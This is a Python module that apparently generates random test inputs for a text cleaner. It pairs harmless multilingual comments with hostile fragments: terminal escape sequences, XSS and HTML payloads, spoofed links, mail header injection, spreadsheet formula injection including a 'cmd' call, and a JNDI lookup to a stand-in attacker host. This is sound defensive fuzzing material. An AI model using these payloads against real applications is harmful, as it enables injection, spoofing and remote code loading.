"""The parts hostile and harmless texts are made of: each a function of a source of chance."""

from collections.abc import Callable
from random import Random

Make = Callable[[Random], str]

WORDS = ("Radweg", "Gruß", "ok", "K 14", "wann?", "Müll", "hier", "Amt", "danke", "и", "你好", "🙂")
_STRINGS = (
    ("\x1b]", "\x9d"),
    ("\x1bP", "\x90"),
    ("\x1bX", "\x98"),
    ("\x1b^", "\x9e"),
    ("\x1b_", "\x9f"),
)
_ENDS = ("\x07", "\x1b\\", "\x9c", "")
_LOADS = (
    "0;weg", "2;PWN", "8;;https://evil.example/", "52;c;bWF1cw==", "4;1;#000", "9;hallo",
    "1337;File=:AA==",
    "777;notify;a;b", "$q\"p", "+q544e", "Gf=100;AAAA", "tmux;\x1b\x1b]0;x\x07", "11;?", "",
)  # fmt: skip
_FINALS = "ABCDEFGHJKLMPSTXZ@`abcdefghilmnpqrstu|}~"
_ZERO_WIDTH = "\u200b\u200c\u200d\u2060\u2063\ufeff\u00ad\u034f\u180e\u115f\u3164\uffa0"
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_MARKS = "\u0301\u0308\u0323\u0334\u0338\u20dd\u0489\u0e49\u0f72\u1dc4\ufe20"
_ACTIONS = (
    "app.simulate_key('e')", "screen.command('comment.done')", "app.exit", "command('quit')",
    "app.bell", "run_action('quit')", "board.command('comment.hide')", "focus('x')",
    "app.suspend_process()",
)  # fmt: skip
_TWINS = str.maketrans("aeopcxyiKMTH", "аеорсхуіКМТН")
_HTML = (
    "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "\"><a href=\"javascript:x\">", "' onmouseover='x", "<!--", "--><b>", "]]>", "</title><script>",
    "</style><script>x</script>", "<iframe src=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>", "&lt;script&gt;", "&#27;[2J", "&#x9b;31m", "&#8238;",
    "&zwj;&zwj;", "&amp;amp;", "<plaintext>", "<textarea>", "\u2028</script>",
    "<form action=//evil.example>",
)  # fmt: skip
_LINKS = (
    "https://kreis.example@evil.example/", "https://kreis.example:443@evil.example", "https://раураl.example/",
    "https://xn--80ak6aa92e.example/", "https://kreis.example\u2215login.evil.example/", "http://0x7f.1/",
    "https://kreis\u3002example.evil.example", "javascript:alert(1)",
    "data:text/html,<script>x</script>",
    "https://evil.example/%1b%5b2J%0d%0a", "https://evil.example/\u202egpj.exe", "file:///etc/passwd",
    "[kreis.example](https://evil.example)", "https://[::1]/", "//evil.example\\@kreis.example",
    "https://kreis.example%2eevil.example/", "https://a.example/?q=%00%9b31m",
    "\\\\evil.example\\share",
)  # fmt: skip
_MAIL = (
    "\r\nBcc: alle@evil.example", "\nSubject: neu\n\nText", "\r\n\r\n<html>",
    "\r\n.\r\nMAIL FROM:<x>",
    "=?utf-8?q?=0D=0ABcc:_x?=", "=0D=0ABcc: x", "\u2028Bcc: x", "\x0bTo: x", "\rCc: x",
    "\x85X-A: b",
    "\r\n--=====\r\nContent-Type: text/html\r\n", "From: x\r\n", "a@b.example, c@d.example",
    "\nFrom x",
    "\r\nBEGIN:VALARM\r\nACTION:PROCEDURE", "\r\nEND:VEVENT\r\nEND:VCALENDAR",
    "\n---\ntoken: x\n---\n",
)  # fmt: skip
_CELLS = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\uff1d1+1", ";=1+1", "\";=1+1;\"", " =1+1", "%0A=1", "\n=1+1", "\"=1+1",
)  # fmt: skip
_LOGS = (
    "\n2026-01-01 ERROR alles gelöscht", "\rINFO ok", "%s%s%n", "${jndi:ldap://evil.example/a}",
    "{0.__class__}", "{account}", "%(message)s", "\0", "\n\n\n\n\n\n", "{", "}", "{{}}",
)  # fmt: skip
_WIDE = (
    "ｗｉｄｅ",
    "﷽",
    "𒐫",
    "⸻",
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "🇩🇪🇫",
    "1️⃣",
    "👍🏽",
    "❤️",
    "🫱🏻‍🫲🏿",
    "각",
    "\u1100\u1161",
    "ᄀ" * 5,
)
_BREAKS = ("\n", "\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x1c", "\x1e", "\n" * 9)


def csi(pick: Random) -> str:
    """A control sequence in seven or eight bits."""
    return (
        pick.choice(("\x1b[", "\x9b"))
        + pick.choice(("", "?", ">", "<", "="))
        + ";".join(str(pick.choice((0, 1, 2, 5, 25, 1000, 1049,
        99999))) for _ in range(pick.randint(0, 3)))
        + pick.choice(("", "", "", " ", "!", "$", "\""))
        + pick.choice(_FINALS)
    )  # fmt: skip


def string(pick: Random) -> str:
    """OSC, DCS, SOS, PM or APC with a load, ended or not."""
    return pick.choice(pick.choice(_STRINGS)) + pick.choice(_LOADS) + pick.choice(_ENDS)


def escape(pick: Random) -> str:
    """Any other escape: reset, charset, index."""
    return "\x1b" + pick.choice(
        ("c", "7", "8", "D", "M", "E", "H", "(0", "#8", "%G", "=", "N", "Z", "\x1b", "")
    )


def control(pick: Random) -> str:
    """Bare control codes of both sets."""
    return "".join(
        chr(pick.choice((*range(32), *range(127, 160)))) for _ in range(pick.randint(1, 4))
    )


def split(pick: Random) -> str:
    """A sequence torn by what a cleaner takes away."""
    whole = csi(pick)
    between: str = pick.choice((*_ZERO_WIDTH, *_BIDI, "\0", "\x1b[m", "\r"))
    at = pick.randint(1, len(whole))
    return whole[:at] + between + whole[at:]


def turned(pick: Random) -> str:
    """Signs that turn the reading direction, closed or not."""
    return (
        pick.choice(_BIDI)
        + pick.choice(("gpj.exe", "תודה", "שלום 123", "مرحبا", "x"))
        + pick.choice(("", pick.choice(_BIDI)))
    )


def unseen(pick: Random) -> str:
    """What nobody sees: tags, selectors, fillers, joiners."""
    kind = pick.randint(0, 3)
    if kind == 0:
        return "".join(chr(0xE0000 + pick.randint(0x20, 0x7F)) for _ in range(pick.randint(1, 12)))
    if kind == 1:
        return "a" + "".join(
            chr(pick.choice((0xFE00, 0xFE0E, 0xFE0F, 0xE0100, 0xE01EF))) for _ in range(6)
        )
    if kind == 2:
        return "".join(pick.choices(_ZERO_WIDTH, k=pick.randint(1, 10)))
    return "\u200d".join(pick.choices(("👩", "👨", "🔥", "❤️", "x", ""), k=pick.randint(2, 14)))


def flood(pick: Random) -> str:
    """Letters under a heap of marks."""
    return "".join(
        c + "".join(pick.choices(_MARKS, k=pick.randint(3, 9))) for c in "abc"[: pick.randint(1, 3)]
    )


def broken(pick: Random) -> str:
    """Lone surrogates, private use, no characters."""
    return chr(
        pick.choice(
            (
                0xD800,
                0xDBFF,
                0xDC80,
                0xDFFF,
                0xE000,
                0xF8FF,
                0xFDD0,
                0xFFFE,
                0xFFFF,
                0x1FFFE,
                0xF0001,
                0x10FFFF,
                0xFFF9,
                0xFFFB,
                0xFFFD,
            )
        )
    )


def markup(pick: Random) -> str:
    """Markup of the library that draws us, with actions behind it."""
    action = pick.choice(_ACTIONS)
    return pick.choice((
        f"[@click={action}]gratis[/]", f"[@click=\"{action}\"]x[/@click]",
        f"[link={action}]x[/link]", "[/]",
        "[/bold]", "[bold", "\\[", "[[", "[red on]", "[$accent 50%]x", "[link='", "[@click=",
        "[#12]x",
        "[bold][/italic]", "\\\\[/]", "[reverse blink]x[/]", "[on $error]x", ":warning:", "[not",
    ))  # fmt: skip


def looks_like(pick: Random) -> str:
    """A name in letters of two scripts, or with a badge."""
    name = pick.choice(("Landkreis Musterland", "kreis.example", "Polizei", "Admin", "Kreis Milk"))
    return pick.choice(
        (name.translate(_TWINS), name + " ✔", name + ":verified:", name.replace("i", "і", 1))
    )


def long(pick: Random) -> str:
    """A word without an end, or lines without one."""
    return pick.choice(("x" * 90, "ß" * 60, "字" * 40, "a " * 50, "\n" * 40, "-" * 100, "🙂" * 40))


def one_of(given: tuple[str, ...]) -> Make:
    """Any of them."""
    return lambda pick: pick.choice(given)


HOSTILE: tuple[Make, ...] = (
    csi, string, escape, control, split, turned, unseen, flood, broken, markup, markup,
    looks_like, long,
    one_of(_HTML), one_of(_LINKS), one_of(_MAIL), one_of(_CELLS), one_of(_LOGS), one_of(_WIDE),
    one_of(_BREAKS),
    csi, string,
)  # fmt: skip

_SENTENCES = (
    "Wird der Radweg an der K 14 gesperrt?", "Danke, tolles Video!", "Größe: 3 × 4 m² – 50 €/Tag",
    "Wann öffnet ihr am 24.12.?", "[K 14] & 2 < 3, oder?", "Siehe Abs. [3] (neu) \\ alt",
    "a/b_c*d~e",
    "Stimmt's, „Herr Müller“?", "ÖPNV 100 % gut", "#KreisMilk ist schön", "@kreis schaut mal",
    "C:\\Amt\\x",
)  # fmt: skip
_SCRIPTS = (
    "Спасибо большое!", "Дякую", "Ευχαριστώ πολύ", "ありがとう", "谢谢", "감사합니다",
    "Çok teşekkürler",
    "Dziękuję", "naïve façade", "Łódź", "Straße", "ŁĄKA", "Ñandú", "Đặng",
)  # fmt: skip
_SIGNS = ("👍", "🙂", "🚲", "→", "✓", "½", "°C", "€", "…", "§ 5", "№ 7", "★")

HARMLESS: tuple[Make, ...] = (
    one_of(_SENTENCES),
    one_of(_SENTENCES),
    one_of(_SCRIPTS),
    one_of(_SIGNS),
)
"""Nothing in them that may be changed anywhere."""
